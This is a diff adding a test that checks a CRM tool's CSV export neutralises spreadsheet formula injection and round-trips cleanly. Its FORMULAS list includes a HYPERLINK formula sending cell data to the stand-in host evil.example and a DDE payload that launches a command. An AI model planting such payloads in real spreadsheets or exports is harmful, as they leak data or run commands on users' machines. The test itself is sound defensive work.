@@ -164,3 +164,52 @@ def test_a_teams_card_refuses_out_of_range_under_the_field_and_saves_nothing(tea
     after = _account(teams.engine, name)
     assert after.margin_pct == before.margin_pct and _audits(teams.engine) == audits
     assert "Saved" in card_text(teams.execute(save, inputs={"f_margin_pct": "100"})["value"])
+
+
+# --- exports: no formula reaches a spreadsheet -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1)", "@x", "-2+3", "\tTab Co", "=cmd|' /C calc'!A0"]
+
+
+def test_export_neutralises_formula_cells_and_reads_back_unchanged(db_url, tmp_path):
+    import csv
+    import io
+
+    from test_cli import gare
+
+    rows = io.StringIO()
+    writer = csv.writer(rows)
+    writer.writerow(["name", "owner", "industry", "annual_revenue", "nps", "churn_reason"])
+    for n, name in enumerate(FORMULAS):
+        writer.writerow([name, "alice", "=1+2" if n == 0 else "Retail", 1000 + n, -5 if n == 1 else 7, "@SUM(A1)"])
+    source = tmp_path / "formulas.csv"
+    source.write_text(rows.getvalue(), encoding="utf-8")
+    assert gare("import", "accounts", str(source), db_url=db_url).returncode == 0
+    deals = tmp_path / "deals.csv"
+    deals.write_text('Deal Name,Account,Stage,Amount\n"=1+1",+SUM(1),qualification,500\n', encoding="utf-8")
+    assert gare("import", "deals", str(deals), db_url=db_url).returncode == 0
+
+    exported = tmp_path / "out.csv"
+    result = gare("export", "accounts", str(exported), db_url=db_url)
+    assert result.returncode == 0, result.stderr
+    with open(exported, newline="", encoding="utf-8") as f:
+        table = list(csv.DictReader(f))
+    by_name = {r["name"]: r for r in table}
+    assert set(by_name) == {"'" + name.strip() if name.strip()[0] in "=+-@" else name.strip() for name in FORMULAS}
+    for r in table:
+        for column, cell in r.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            assert not cell.startswith("-") or column in ("annual_revenue", "nps"), (column, cell)
+    plus = by_name["'+SUM(1)"]
+    assert plus["nps"] == "-5" and plus["churn_reason"] == "'@SUM(A1)"  # a negative number stays a number
+    assert by_name["'" + FORMULAS[0]]["industry"] == "'=1+2"
+
+    deals_out = tmp_path / "deals_out.csv"
+    assert gare("export", "deals", str(deals_out), db_url=db_url).returncode == 0
+    with open(deals_out, newline="", encoding="utf-8") as f:
+        deal = next(csv.DictReader(f))
+    assert (deal["name"], deal["account"]) == ("'=1+1", "'+SUM(1)")
+
+    # Importing the export back changes nothing: the quote is taken off again.
+    again = gare("import", "accounts", str(exported), "--dry-run", db_url=db_url, env_extra={"GARE_LANG": "en"})
+    assert again.returncode == 0 and "6 unchanged" in again.stdout + again.stderr, again.stdout + again.stderr
